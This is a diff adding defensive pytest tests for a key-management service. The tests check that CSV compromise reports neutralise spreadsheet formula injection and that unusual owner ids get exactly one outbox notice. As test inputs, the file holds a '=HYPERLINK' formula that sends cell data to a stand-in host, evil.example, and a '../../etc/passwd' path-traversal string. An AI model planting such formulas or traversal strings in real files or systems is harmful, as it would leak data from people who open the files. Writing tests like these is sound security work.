@@ -1,6 +1,8 @@
 """The per-owner report of content under compromised keys (JSON, CSV) and the notices to owners,
 delivered to a real SMTP server on 127.0.0.1 (aiosmtpd) or kept in an outbox folder: each owner is told
-once per compromised key, reruns change nothing, and the report follows republishing."""
+once per compromised key, reruns change nothing, and the report follows republishing. What clients chose
+(content ids, owner ids) never starts a formula in the CSV, and owner ids of any valid form get their
+notice into the outbox."""
 
 import asyncio
 import collections
@@ -21,8 +23,10 @@ import pytest
 import sqlalchemy as sa
 from aiosmtpd.controller import Controller
 from conftest import KEY_PASSWORD, _running_node, free_port, provision, sqlite_database
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 
-from rmsd import admin, clusters, compromise
+from rmsd import admin, clusters, compromise, identity
 from rmsd.client import RmsClient, User, encrypt_content
 from rmsd.errors import RmsdError
 from rmsd.schema import content, owner_notices, utcnow
@@ -502,3 +506,166 @@ def test_a_run_killed_while_notifying_then_rerun_tells_every_owner_at_most_one_d
     twice = [owner for owner, n in received.items() if n > 1]
     assert held in twice and len(twice) <= 2 and max(received.values()) == 2  # at most one more per kill
     assert sorted(owners_told(seeded["database"])) == PENDING_OWNERS
+
+
+# --- what clients chose: content ids and owner ids of any valid form --------------------------------------
+
+HYPOTHESIS = settings(max_examples=60, deadline=None, database=None, derandomize=True,
+                      suppress_health_check=list(HealthCheck))
+FORMULA_START = "=+-@\t\r"
+# The grammars: an owner is an identifier (rmsd.identity: no control character or surrogate, at most 256
+# characters); a content id has no control character (rmsd.contract), at most 128 characters.
+OWNER_CHARACTERS = st.characters(exclude_categories=("Cc", "Cs"))
+CONTENT_ID_CHARACTERS = st.characters(exclude_categories=("Cs",),
+                                      exclude_characters=[chr(c) for c in range(32)] + ["\x7f"])
+
+
+def starting_a_formula(characters, max_size):
+    """Text of the grammar, often starting with a character a spreadsheet reads as the start of a formula."""
+    anything = st.text(characters, min_size=1, max_size=max_size)
+    formula = st.builds(lambda first, rest: (first + rest)[:max_size], st.sampled_from("=+-@"),
+                        st.text(characters, max_size=max_size))
+    return st.one_of(formula, anything, st.just("=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")"))
+
+
+@pytest.fixture
+def one_compromised_key(tmp_path):
+    """A cluster whose first key is compromised; the tests seed its content table."""
+    database = sqlite_database(tmp_path)
+    provision(database)
+    engine = database.engine()
+    with engine.connect() as conn:
+        key_id = clusters.active_key_row(conn, clusters.get_cluster(conn, "c1").id).id
+    admin.ensure_cluster_key(cluster="c1", key_password=KEY_PASSWORD, compromised_keys=[key_id],
+                             **database.admin_args())
+    try:
+        yield {"database": database, "engine": engine, "key_id": key_id}
+    finally:
+        engine.dispose()
+
+
+def seed(setup, rows):
+    """Only `rows` (owner, content id) under the compromised key, and no owner told yet."""
+    with setup["engine"].begin() as conn:
+        cluster_id = clusters.get_cluster(conn, "c1").id
+        conn.execute(owner_notices.delete())
+        conn.execute(content.delete())
+        conn.execute(content.insert(), [
+            {"pl_id": f"{n:040x}", "cluster_id": cluster_id, "content_id": content_id, "owner": owner,
+             "key_id": setup["key_id"], "rights": {}, "created_at": datetime(2026, 1, 1, tzinfo=UTC)}
+            for n, (owner, content_id) in enumerate(rows)])
+
+
+def test_no_csv_cell_a_client_chose_starts_a_formula_and_the_json_stays_exact(one_compromised_key, tmp_path,
+                                                                              record_property):
+    cases = neutralised = 0
+    folder = tmp_path / "r"
+
+    @given(rows=st.lists(st.tuples(starting_a_formula(OWNER_CHARACTERS, identity.MAX_IDENTIFIER),
+                                   starting_a_formula(CONTENT_ID_CHARACTERS, 128)),
+                         min_size=1, max_size=4, unique=True))
+    @HYPOTHESIS
+    def check(rows):
+        nonlocal cases, neutralised
+        seed(one_compromised_key, rows)
+        done = admin.ensure_compromise_report(
+            cluster="c1", json_path=str(folder / "c1.json"), csv_path=str(folder / "c1.csv"),
+            **one_compromised_key["database"].admin_args())
+        assert done.facts["report"]["pending"] == len(rows)
+        with open(folder / "c1.csv", newline="", encoding="utf-8") as f:
+            header, *cells = list(csv.reader(f))
+        assert header == list(compromise.CSV_FIELDS) and len(cells) == len(rows)
+        for line in cells:
+            assert len(line) == len(compromise.CSV_FIELDS)
+            assert not any(cell.startswith(tuple(FORMULA_START)) for cell in line), line
+        written = sorted((line[0], line[1]) for line in cells)
+        assert written == sorted((quoted(owner), quoted(content_id)) for owner, content_id in rows)
+        neutralised += sum(quoted(v) != v for row in rows for v in row)
+        owners = [json.loads(line) for line in (folder / "c1.owners.jsonl").read_text(encoding="utf-8").splitlines()]
+        assert sorted((o["owner"], item["content_id"]) for o in owners for item in o["content"]) == sorted(rows)
+        cases += 1
+
+    check()
+    assert neutralised > 0
+    record_property("hypothesis_cases", f"CSV cells clients chose: {cases} reports, {neutralised} cells starting a "
+                                        "formula neutralised, JSON exact")
+
+
+def quoted(value: str) -> str:
+    """A CSV cell as OWASP's advice writes it: a single quote before a cell that would start a formula."""
+    return "'" + value if value.startswith(tuple(FORMULA_START)) else value
+
+
+def test_owner_ids_of_any_valid_form_get_their_notice_into_the_outbox_once(one_compromised_key, tmp_path,
+                                                                          record_property):
+    cases = 0
+    outbox = tmp_path / "outbox"
+    args = {"cluster": "c1", "notify": True, "sender": SENDER, "outbox_dir": str(outbox),
+            **one_compromised_key["database"].admin_args()}
+
+    @given(owner=st.one_of(st.text(OWNER_CHARACTERS, min_size=1, max_size=identity.MAX_IDENTIFIER),
+                           st.text(OWNER_CHARACTERS, min_size=200, max_size=identity.MAX_IDENTIFIER),
+                           st.sampled_from(["../../etc/passwd", ".", "..", "a/b", "x" * 256, "é" * 256,
+                                            "\U0001f511" * 256])))
+    @HYPOTHESIS
+    def check(owner):
+        nonlocal cases
+        assert identity.identifier_problem(owner) is None
+        seed(one_compromised_key, [(owner, "doc")])
+        for old in outbox.glob("*"):
+            old.unlink()
+        sent = admin.ensure_compromise_report(**args)
+        files = list(outbox.iterdir())
+        assert sent.facts["notified"] == 1 and len(files) == 1
+        assert f"To: {owner}\n" in files[0].read_text(encoding="utf-8")
+        assert stat.S_IMODE(files[0].stat().st_mode) == 0o600
+        again = admin.ensure_compromise_report(**args)
+        assert again.facts["notified"] == 0 and list(outbox.iterdir()) == files
+        cases += 1
+
+    check()
+    record_property("hypothesis_cases", f"owner ids of any valid form: {cases} notices written to the outbox, "
+                                        "none sent again")
+
+
+def test_a_publisher_chosen_formula_and_a_long_owner_id_over_http(tmp_path):
+    """The reproduction, end to end: content id "=HYPERLINK(...)" published over HTTP by a user whose id has
+    200 characters (400 bytes of UTF-8), under a key then revoked as compromised."""
+    gen = _running_node(tmp_path, sqlite_database(tmp_path))
+    node = next(gen)
+    try:
+        client = RmsClient(node.url)
+        owner = ("josé.garcía-" * 20)[:188] + "@example.com"
+        assert len(owner) == 200 and identity.identifier_problem(owner) is None
+        publisher = User.new(owner, node.token(owner))
+        client.certify(publisher)
+        formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
+        client.publish(publisher, formula, encrypt_content(b"x")[0], {owner: ["VIEW"]})
+        admin.ensure_cluster_key(cluster="c1", key_password=KEY_PASSWORD, compromised_keys=[client.slc()["key_id"]],
+                                 **node.database.admin_args())
+        outbox = tmp_path / "outbox"
+        args = {"cluster": "c1", "json_path": str(tmp_path / "r" / "c1.json"),
+                "csv_path": str(tmp_path / "r" / "c1.csv"), "notify": True, "sender": SENDER,
+                "outbox_dir": str(outbox), **node.database.admin_args()}
+        assert admin.ensure_compromise_report(**args).facts["notified"] == 1
+        with open(tmp_path / "r" / "c1.csv", newline="", encoding="utf-8") as f:
+            rows = list(csv.DictReader(f))
+        assert [(r["owner"], r["content_id"]) for r in rows] == [(owner, "'" + formula)]
+        owners = (tmp_path / "r" / "c1.owners.jsonl").read_text(encoding="utf-8").splitlines()
+        assert json.loads(owners[0])["content"][0]["content_id"] == formula
+        [notice] = outbox.iterdir()
+        assert f"To: {owner}\n" in notice.read_text(encoding="utf-8") and owner not in notice.name
+        assert admin.ensure_compromise_report(**args).facts["notified"] == 0 and list(outbox.iterdir()) == [notice]
+    finally:
+        gen.close()
+
+
+def test_an_outbox_that_cannot_be_written_says_so_and_records_nothing(one_compromised_key, tmp_path):
+    seed(one_compromised_key, [("alice@example.com", "doc")])
+    blocked = tmp_path / "not-a-folder"
+    blocked.write_text("")
+    args = {"cluster": "c1", "notify": True, "sender": SENDER, **one_compromised_key["database"].admin_args()}
+    with pytest.raises(RmsdError, match="cannot write the notice to alice@example.com into outbox_dir.*next run"):
+        admin.ensure_compromise_report(outbox_dir=str(blocked / "outbox"), **args)
+    assert owners_told(one_compromised_key["database"]) == {}
+    assert admin.ensure_compromise_report(outbox_dir=str(tmp_path / "outbox"), **args).facts["notified"] == 1
